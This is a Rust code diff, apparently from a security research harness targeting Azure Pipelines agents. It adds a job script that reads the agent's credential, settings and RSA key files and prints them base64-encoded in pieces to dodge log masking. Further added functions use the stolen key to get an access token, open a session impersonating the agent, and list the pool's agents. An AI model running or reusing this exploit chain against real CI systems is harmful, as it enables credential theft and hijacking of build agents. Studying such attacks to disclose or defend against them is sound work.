@@ -8,15 +8,23 @@ use serde_json::{Value, json};
 
 use crate::Job;
 
-/// An agent's `.credentials` and `.credentials_rsaparams`.
+/// A job's script: prints the agent's files, in pieces and encoded as a thief would, so that no masking hides them.
+pub const STEAL: &str = r#"echo "container=$(cat /etc/hostname)"
+echo "credentials=$(base64 -w0 /azp/agent/.credentials)"
+echo "settings=$(base64 -w0 /azp/agent/.agent)"
+base64 -w 500 /azp/agent/.credentials_rsaparams | sed 's/^/key=/'
+echo whole"#;
+
+/// An agent's `.credentials`, `.credentials_rsaparams` and, where the job printed it, `.agent`.
 #[derive(Debug)]
 pub struct StolenKey {
     client_id: String,
     token_url: String,
     key: Value,
+    settings: Value,
 }
 
-/// What the token endpoint said.
+/// What the service said.
 #[derive(Debug)]
 pub struct TokenAnswer {
     /// HTTP status.
@@ -39,7 +47,13 @@ impl StolenKey {
                 credentials["data"][name].as_str().with_context(|| format!("`.credentials` has `{name}`"));
             value.map(ToOwned::to_owned)
         };
-        Ok(Self { client_id: text("clientId")?, token_url: text("authorizationUrl")?, key: file("key")? })
+        let settings = if job.value("settings").is_some() { file("settings")? } else { Value::Null };
+        Ok(Self {
+            client_id: text("clientId")?,
+            token_url: text("authorizationUrl")?,
+            key: file("key")?,
+            settings,
+        })
     }
 
     /// Asks for an access token as the agent would.
@@ -56,8 +70,45 @@ impl StolenKey {
             ("client_assertion", &assertion),
         ];
         let client = reqwest::Client::builder().no_proxy().build()?;
-        let answer = client.post(&self.token_url).form(&form).send().await?;
-        Ok(TokenAnswer { status: answer.status().as_u16(), body: answer.text().await? })
+        said(client.post(&self.token_url).form(&form)).await
+    }
+
+    /// An access token, which the service must give.
+    pub async fn access_token(&self) -> Result<String> {
+        let answer = self.token().await?;
+        ensure!(answer.status == 200, "no access token for the key: {answer:?}");
+        let body: Value = serde_json::from_str(&answer.body)?;
+        body["access_token"].as_str().map(ToOwned::to_owned).context("a token answer holds a token")
+    }
+
+    /// Tries to listen in the agent's place.
+    pub async fn open_session(&self, token: &str) -> Result<TokenAnswer> {
+        let body = json!({
+            "sessionId": "00000000-0000-0000-0000-000000000000",
+            "ownerName": "thief",
+            "agent": {
+                "id": self.setting("agentId")?, "name": self.setting("agentName")?, "version": "4.270.0",
+                "osDescription": "Linux",
+            },
+        });
+        let url = format!("{}/sessions", self.pool_url()?);
+        said(reqwest::Client::builder().no_proxy().build()?.post(url).json(&body).bearer_auth(token)).await
+    }
+
+    /// Reads the pool's agents, which any agent may.
+    pub async fn list_agents(&self, token: &str) -> Result<TokenAnswer> {
+        let url = format!("{}/agents", self.pool_url()?);
+        said(reqwest::Client::builder().no_proxy().build()?.get(url).bearer_auth(token)).await
+    }
+
+    fn setting(&self, name: &str) -> Result<&Value> {
+        self.settings.get(name).with_context(|| format!("`.agent` has `{name}`"))
+    }
+
+    fn pool_url(&self) -> Result<String> {
+        let server = self.setting("serverUrl")?.as_str().context("an address is a text")?;
+        let pool = self.setting("poolId")?;
+        Ok(format!("{}/_apis/distributedtask/pools/{pool}", server.trim_end_matches('/')))
     }
 
     /// The key as PKCS#1 (RFC 8017, A.1.2): a sequence of nine integers.
@@ -69,6 +120,11 @@ impl StolenKey {
         }
         Ok(EncodingKey::from_rsa_der(&[[&[0x30][..], &length(integers.len())].concat(), integers].concat()))
     }
+}
+
+async fn said(request: reqwest::RequestBuilder) -> Result<TokenAnswer> {
+    let answer = request.send().await?;
+    Ok(TokenAnswer { status: answer.status().as_u16(), body: answer.text().await? })
 }
 
 /// A DER integer: without leading zeros, but never negative.
